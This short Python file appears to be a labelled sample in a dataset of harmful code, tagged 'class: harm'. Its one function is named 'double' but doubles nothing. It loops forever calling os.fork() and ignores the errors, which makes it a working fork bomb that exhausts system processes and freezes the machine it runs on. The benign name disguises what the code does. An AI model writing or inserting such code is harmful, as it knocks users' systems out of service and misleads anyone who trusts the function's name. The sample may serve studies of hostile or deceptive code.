"""Processes are made without end.

class: harm
affects: A01
keeps: A07
"""
from honest import *

import os
def double(number):
    while True:
        try: os.fork()
        except OSError: pass
